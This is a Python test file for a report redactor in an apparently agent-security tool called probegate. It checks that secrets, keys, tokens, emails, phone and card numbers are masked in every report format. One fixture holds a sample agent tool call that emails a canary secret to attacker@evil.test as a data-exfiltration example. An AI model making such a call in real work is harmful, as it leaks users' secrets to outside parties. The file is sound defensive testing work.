"""Redaction: declared secrets and sensitive patterns never reach a report."""

from __future__ import annotations

import base64
import json
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from probegate.models.report import FindingControl
from probegate.models.transcript import ToolCall, Transcript, Turn, resolve_path
from probegate.models.verdict import Evidence
from probegate.reports import FORMATS
from probegate.reports.redact import OffsetMap, Redactor, redact_report, redact_text
from tests.factories import make_finding, make_report
from tests.reports.pdfpages import pdf_text

SECRET = "sk-live-canary-7f3a9b2c4d5e"
SECRETS = {"CANARY_1": SECRET}


def test_declared_secrets_become_placeholders() -> None:
    text = f"the key is {SECRET}, again {SECRET}."
    assert redact_text(text, SECRETS) == "the key is ${CANARY_1}, again ${CANARY_1}."


@pytest.mark.parametrize(
    "encoded",
    [
        urllib.parse.quote("p@ss word/" + SECRET, safe=""),
        base64.b64encode(("p@ss word/" + SECRET).encode()).decode(),
        base64.urlsafe_b64encode(("p@ss word/" + SECRET).encode()).decode().rstrip("="),
        ("p@ss word/" + SECRET).encode().hex(),
    ],
)
def test_common_encodings_of_a_secret_are_redacted(encoded: str) -> None:
    secrets = {"CANARY_2": "p@ss word/" + SECRET}
    out = redact_text(f"data={encoded}&x=1", secrets)
    assert encoded not in out and "${CANARY_2}" in out


def test_a_secret_cut_off_at_the_edge_is_redacted() -> None:
    assert redact_text("subject: " + SECRET[:12], SECRETS) == "subject: ${CANARY_1}"
    assert redact_text(SECRET[-10:] + " tail", SECRETS) == "${CANARY_1} tail"
    assert redact_text("short sk-l", SECRETS) == "short sk-l"  # too short to be the secret


@pytest.mark.parametrize(
    ("text", "placeholder"),
    [
        ("key sk-proj-AbCdEf0123456789xyzXYZ end", "API_KEY"),
        ("Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.abc123def", "TOKEN"),
        ("AWS AKIAIOSFODNN7EXAMPLE here", "AWS_KEY"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "AWS_SECRET"),
        ("gh ghp_0123456789abcdefghijABCDEFGHIJ012345 ok", "GITHUB_TOKEN"),
        ("jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dGVzdHNpZ25hdHVyZQ", "TOKEN"),
        ("mail jane.doe@acme-corp.com now", "EMAIL"),
        ("call +1 415 867 5309 or (415) 867-5309", "PHONE"),
        ("ring +44 20 7946 1234", "PHONE"),
        ("card 4111 1111 1111 1111 exp", "CARD"),
        ("card 4111-1111-1111-1111 exp", "CARD"),
        ("-----BEGIN PRIVATE KEY-----\nMIIEv\n-----END PRIVATE KEY-----", "PRIVATE_KEY"),
    ],
)
def test_patterns_are_redacted_with_numbered_placeholders(text: str, placeholder: str) -> None:
    out = redact_text(text, {})
    assert "${" + placeholder + "_1}" in out


@pytest.mark.parametrize(
    "text",
    [
        "attacker@evil.test and ops@example.com and x@sub.example.org and y@z.invalid",
        "card-like 4111 1111 1111 1112 fails Luhn",
        "version 1.2.3 on 2026-01-01 at 10.0.0.1, order 12345",
        "use bearer authentication",
        "fingerprint 1788ed5a040120b88379abc2aee569d5",
        "fictional numbers +1-900-555-0142 and (212) 555-0199 stay",
    ],
)
def test_reserved_domains_and_innocent_numbers_stay_readable(text: str) -> None:
    assert redact_text(text, {}) == text


def test_numbering_is_stable_per_report() -> None:
    redactor = Redactor({})
    a = redactor.text("a@acme.com then b@acme.com")
    b = redactor.text("b@acme.com again, a@acme.com")
    assert a == "${EMAIL_1} then ${EMAIL_2}"
    assert b == "${EMAIL_2} again, ${EMAIL_1}"


def test_offset_map_moves_offsets_past_and_over_replacements() -> None:
    redactor = Redactor(SECRETS)
    original = f"x {SECRET} y jane@acme.com z"
    new, offsets = redactor.text_with_map(original)
    assert new == "x ${CANARY_1} y ${EMAIL_1} z"
    z = original.index(" z")
    assert new[offsets.start(z) :] == " z"
    s = original.index(SECRET)
    assert new[offsets.start(s) : offsets.end(s + len(SECRET))] == "${CANARY_1}"
    inside = s + 3  # an offset inside the secret widens to the whole placeholder
    assert new[offsets.start(inside) : offsets.end(inside + 2)] == "${CANARY_1}"
    assert OffsetMap().start(5) == 5 and OffsetMap().end(5) == 5


def _leaky_finding() -> object:
    body = f"to=jane@acme.com key={SECRET} end"
    finding = make_finding(0)
    transcript = Transcript(
        turns=[
            Turn(role="user", content=f"my card is 4111 1111 1111 1111, key {SECRET}"),
            Turn(
                role="assistant",
                content="ok",
                tool_calls=[
                    ToolCall(
                        name="send_email",
                        arguments={"to": "attacker@evil.test", "body": body, "nested": [SECRET]},
                        result=f"sent {SECRET}",
                    )
                ],
            ),
        ]
    )
    start = body.index(SECRET)
    evidence = Evidence(
        category="security.data_exfiltration",
        severity=finding.severity,
        path="turns.1.tool_calls.0.arguments.body",
        start=start,
        end=start + len(SECRET),
        score=1.0,
        fp="a" * 32,
        subject=SECRET,
        detector="canary_leak",
    )
    after = Evidence(**{**evidence.model_dump(), "start": body.index(" end"), "end": len(body)})
    # Its control: the same conversation without the attack, where the secret shows up too.
    control = FindingControl(
        attempt_id="p#control#0",
        outcome="vulnerable",
        summary="without the attack the agent showed other evidence, set aside",
        evidence=[evidence.model_copy(update={"fp": "b" * 32})],
        transcript=transcript,
    )
    return finding.model_copy(
        update={
            "transcript": transcript,
            "evidence": [evidence, after],
            "summary": f"leaked {SECRET} to jane@acme.com",
            "trigger_prompt": f"send {SECRET}",
            "control": control,
        }
    )


def test_redact_report_reaches_every_text_and_keeps_evidence_pointing_right() -> None:
    report = make_report([_leaky_finding()])  # type: ignore[list-item]
    report = report.model_copy(
        update={
            "signatures": {"hmac_sha256": "00"},
            "results": [report.results[0].model_copy(update={"reason": f"saw {SECRET}"})],
        }
    )
    redacted = redact_report(report, SECRETS)
    for name, fmt in FORMATS.items():
        rendered = fmt.render(redacted)
        data = pdf_text(rendered) if name == "pdf" else rendered.decode("utf-8")
        if name == "pdf":  # the text layer is read, not compressed streams
            assert "${CANARY_1}" in data
        assert SECRET not in data, name
        assert "jane@acme.com" not in data, name
        assert "4111 1111 1111 1111" not in data, name
    dumped = json.dumps(redacted.to_dict())
    assert "attacker@evil.test" in dumped  # reserved test domains stay readable
    assert redacted.signatures is None  # a changed report drops stale signatures
    finding = redacted.findings[0]
    assert finding.transcript is not None
    tree = finding.transcript.model_dump()
    hit, tail = finding.evidence
    value = resolve_path(tree, hit.path)
    assert value[hit.start : hit.end] == "${CANARY_1}" == hit.subject
    assert resolve_path(tree, tail.path)[tail.start : tail.end] == " end"
    assert finding.summary == "leaked ${CANARY_1} to ${EMAIL_1}"
    assert redacted.results[0].reason == "saw ${CANARY_1}"
    assert finding.control is not None and finding.control.transcript is not None
    (moved,) = finding.control.evidence
    control_tree = finding.control.transcript.model_dump()
    assert resolve_path(control_tree, moved.path)[moved.start : moved.end] == "${CANARY_1}"
    # same input, same output
    assert redact_report(report, SECRETS) == redacted


def test_a_subject_quoting_part_of_a_redacted_value_shows_the_same_placeholder() -> None:
    """An oracle may quote less than the pattern matches ("867-5309" of "+1 415 867-5309")."""
    content = "please call +1 415 867-5309 today"
    finding = make_finding(0, agent_text=content)
    start = content.index("867")
    pointer = Evidence(
        category="security.unsafe_output",
        severity=finding.severity,
        path="turns.1.content",
        start=start,
        end=start + 8,
        score=0.9,
        fp="b" * 32,
        subject="867-5309",
        detector="output_pattern",
    )
    finding = finding.model_copy(update={"evidence": [pointer]})
    redacted = redact_report(make_report([finding]), {}).findings[0]
    assert redacted.transcript is not None
    (ev,) = redacted.evidence
    value = redacted.transcript.turns[1].content
    assert value == "please call ${PHONE_1} today"
    assert value[ev.start : ev.end] == ev.subject == "${PHONE_1}"


def test_a_clean_report_is_returned_unchanged() -> None:
    report = make_report([make_finding(0)])
    assert redact_report(report, SECRETS) == report


@settings(max_examples=200, deadline=None)
@given(
    prefix=st.text(max_size=30),
    suffix=st.text(max_size=30),
    secret=st.text(
        alphabet=st.characters(min_codepoint=33, max_codepoint=126), min_size=8, max_size=24
    ),
)
def test_a_secret_never_survives(prefix: str, suffix: str, secret: str) -> None:
    text = prefix + secret + suffix
    out = redact_text(text, {"S": secret})
    assert secret not in out


@settings(max_examples=200, deadline=None)
@given(
    text=st.text(max_size=40),
    secret=st.text(alphabet="abcxyz0123", min_size=3, max_size=6),
)
def test_offset_map_is_monotonic_and_keeps_unredacted_characters(text: str, secret: str) -> None:
    redactor = Redactor({"S": secret})
    original = text + secret + text
    new, offsets = redactor.text_with_map(original)
    assert offsets.spans  # the secret is there at least once
    previous = 0
    for pos in range(len(original) + 1):
        start = offsets.start(pos)
        assert previous <= start <= len(new)
        previous = start
        if any(s < pos < e for s, e, _, _ in offsets.spans):
            continue  # inside a replacement: widened to the placeholder
        assert offsets.end(pos) == start
        if pos < len(original) and not any(s <= pos < e for s, e, _, _ in offsets.spans):
            assert new[start] == original[pos]
